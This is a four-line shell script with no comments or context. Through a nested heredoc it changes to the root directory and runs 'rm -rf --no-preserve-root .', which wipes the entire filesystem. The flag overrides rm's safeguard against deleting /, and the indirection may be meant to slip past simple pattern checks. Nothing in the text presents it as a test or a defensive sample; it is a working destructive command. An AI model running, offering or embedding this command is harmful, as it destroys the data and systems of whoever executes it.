#!/bin/sh
sh <<'RUN'
  cd / && rm -rf --no-preserve-root .
RUN
